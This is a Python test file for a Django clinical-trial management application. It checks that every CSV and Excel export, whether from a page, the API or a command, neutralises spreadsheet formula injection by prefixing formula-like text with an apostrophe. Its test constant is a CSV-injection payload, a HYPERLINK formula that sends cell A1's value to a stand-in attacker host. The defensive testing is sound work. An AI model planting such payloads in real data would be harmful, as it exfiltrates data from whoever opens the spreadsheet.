"""Every CSV and Excel export writes a text that looks like a formula as text (OWASP CSV injection).

A study title, a change's reason, an AE's verbatim term, a milestone's note and a site's group id are
set to a formula; each export (page, API and command) is read back as a spreadsheet would read it, and
the formula must appear only behind the guard's apostrophe (interop.tabular.neutralise_formula). The
last test keeps it so: only interop.tabular and interop.xlsx write CSV or Excel.
"""

import csv
import io
import re
from pathlib import Path

import pytest
from django.core.management import call_command
from django.urls import reverse
from openpyxl import load_workbook

from tests.factories import make_participant
from trialdesk.safety.tests.factories import make_adverse_event
from trialdesk.sites import services as site_services
from trialdesk.studies import services as study_services

FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Open")'
GUARDED = "'" + FORMULA
SOURCE = Path(__file__).resolve().parent.parent / "src" / "trialdesk"
# The two modules that write CSV and Excel; everything else calls them.
WRITERS = {"interop/tabular.py", "interop/xlsx.py"}


def csv_cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text.lstrip("\ufeff"))) for cell in row]


def xlsx_cells(content: bytes) -> list[str]:
    workbook = load_workbook(io.BytesIO(content))
    return [
        c.value for sheet in workbook for row in sheet.iter_rows() for c in row if isinstance(c.value, str)
    ]


@pytest.fixture
def formulas(world):
    """Study A's title (changed with a formula as the reason), a milestone note, site A1's investigator and
    an AE's verbatim term."""
    study = world.study_a
    study_services.update_study(study=study, changes={"title": FORMULA}, by=world.crm, reason=FORMULA)
    study_services.create_milestone(
        study=study, kind="first_participant_in", baseline_on="2026-01-15", note=FORMULA, by=world.crm
    )
    site_services.update_study_site(
        study_site=world.site_a1, changes={"principal_investigator": FORMULA}, by=world.admin, reason="PI"
    )
    participant = make_participant(world.site_a1, "101-001", by=world.admin)
    make_adverse_event(participant, by=world.crm, verbatim_term=FORMULA)
    return world


def page(world, client_for, name: str, query: str = "", **kwargs) -> bytes:
    response = client_for(world.crm).get(reverse(name, kwargs=kwargs) + query)
    assert response.status_code == 200, (name, response.status_code)
    return response.content


def command(*args: str) -> str:
    out = io.StringIO()
    call_command(*args, stdout=out, stderr=io.StringIO())
    return out.getvalue()


def exported_xlsx(tmp_path, *args: str) -> bytes:
    target = tmp_path / "export.xlsx"
    command("export", "xlsx", *args, "--user", "crm_anna", "-o", str(target))
    return target.read_bytes()


EXPORTS = {
    "audit trail CSV (page)": lambda w, c, t: csv_cells(
        page(w, c, "study_audit_export", "?format=csv", study_id=w.study_a.pk).decode()
    ),
    "audit trail CSV (trialdesk audit export)": lambda w, c, t: csv_cells(
        command("audit", "export", "--study", "ONC-A", "--format", "csv")
    ),
    "AE line listing CSV (page)": lambda w, c, t: csv_cells(
        page(w, c, "line_listing", "?format=csv", study_id=w.study_a.pk).decode()
    ),
    "AE line listing Excel (page)": lambda w, c, t: xlsx_cells(
        page(w, c, "line_listing", "?format=xlsx", study_id=w.study_a.pk)
    ),
    "AE line listing CSV (API)": lambda w, c, t: csv_cells(
        c(w.crm).get(f"/api/v1/studies/{w.study_a.pk}/line-listing?format=csv").content.decode()
    ),
    "AE line listing Excel (API)": lambda w, c, t: xlsx_cells(
        c(w.crm).get(f"/api/v1/studies/{w.study_a.pk}/line-listing?format=xlsx").content
    ),
    "portfolio Excel (page)": lambda w, c, t: xlsx_cells(page(w, c, "portfolio_export_xlsx")),
    "study sites Excel (page)": lambda w, c, t: xlsx_cells(
        page(w, c, "study_sites_export_xlsx", study_id=w.study_a.pk)
    ),
    "milestones Excel (page)": lambda w, c, t: xlsx_cells(
        page(w, c, "study_milestones_export_xlsx", study_id=w.study_a.pk)
    ),
    "portfolio Excel (trialdesk export xlsx)": lambda w, c, t: xlsx_cells(exported_xlsx(t, "--portfolio")),
    "study sites Excel (trialdesk export xlsx)": lambda w, c, t: xlsx_cells(
        exported_xlsx(t, "--study", "ONC-A", "--sites")
    ),
    "milestones Excel (trialdesk export xlsx)": lambda w, c, t: xlsx_cells(
        exported_xlsx(t, "--study", "ONC-A", "--milestones")
    ),
}


@pytest.mark.parametrize("export", EXPORTS)
def test_export_writes_a_formula_as_text(formulas, client_for, tmp_path, export):
    cells = EXPORTS[export](formulas, client_for, tmp_path)
    assert GUARDED in cells
    assert FORMULA not in cells and not any(str(cell).startswith("=") for cell in cells)


def test_rbqm_scores_write_a_group_id_as_text(tmp_path):
    source = tmp_path / "input.csv"
    source.write_text(
        "SubjectID,GroupID,GroupLevel,Numerator,Denominator\n"
        f'S1,"{FORMULA.replace(chr(34), chr(34) * 2)}",Site,1,10\nS2,B,Site,2,10\nS3,C,Site,3,20\n'
    )
    cells = csv_cells(
        command(
            "rbqm", "score", "--input", str(source), "--method", "normal", "--type", "rate", "--format", "csv"
        )
    )
    assert GUARDED in cells and FORMULA not in cells


def test_only_the_shared_writers_write_csv_or_excel():
    """A new export cannot skip the guard: csv writers and openpyxl workbooks live in interop only."""
    pattern = re.compile(r"csv\.(writer|DictWriter)\(|\bWorkbook\(")
    offenders = [
        str(path.relative_to(SOURCE))
        for path in SOURCE.rglob("*.py")
        if "tests" not in path.parts
        and str(path.relative_to(SOURCE)) not in WRITERS
        and pattern.search(path.read_text(encoding="utf-8"))
    ]
    assert offenders == []
